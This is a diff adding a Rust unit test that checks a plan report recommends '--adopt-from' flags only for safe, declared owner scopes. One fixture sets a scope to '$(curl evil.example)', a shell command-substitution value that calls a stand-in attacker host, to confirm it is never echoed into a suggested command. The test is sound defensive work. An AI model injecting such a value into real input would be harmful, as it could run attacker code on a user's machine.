@@ -3,6 +3,7 @@
 use proptest::prelude::*;
 
 use super::*;
+use crate::domain::entity::foreign_owner::{ForeignOwner, OwnerKind};
 use crate::domain::plan::change::Action;
 use crate::report::escape::clean;
 use crate::report::plan::fixtures::Case;
@@ -478,4 +479,25 @@ proptest! {
             }
         }
     }
+}
+
+#[test]
+fn a_plan_recommends_the_flag_that_takes_over_no_more_than_is_declared_by_its_owner() {
+    let mut case = Case::foreign();
+    let flags = |case: &Case| adoption_flags(&case.plan, &case.owners, AdoptionFlags::Any);
+    assert_eq!(flags(&case), "--adopt", "an integration has no scope");
+    let owned_by = |case: &mut Case, scopes: [&str; 3]| {
+        let owner = |scope: &str| ForeignOwner::new(OwnerKind::Scope, Some(scope.to_owned()));
+        let keys = ["service/cart", "service/web", "team/web"].map(fixtures::key);
+        case.owners = keys.into_iter().zip(scopes.map(owner)).collect();
+    };
+    owned_by(&mut case, ["acme/web", "acme/app", "acme/web"]);
+    assert_eq!(flags(&case), "--adopt-from acme/app --adopt-from acme/web");
+    assert_eq!(adoption_flags(&case.plan, &case.owners, AdoptionFlags::AdoptOnly), "--adopt");
+    // The name comes from the catalog, and any client may have written it.
+    owned_by(&mut case, ["acme/web", "$(curl evil.example)", "acme/web"]);
+    assert_eq!(flags(&case), "--adopt");
+    let page = PlanReport { adoption_flags: AdoptionFlags::Hidden, ..case.report() };
+    let hazards = crate::report::serve::hazards(&page);
+    assert!(!hazards.is_empty() && hazards.iter().all(|hazard| !hazard.sentence.contains("--")), "{hazards:?}");
 }
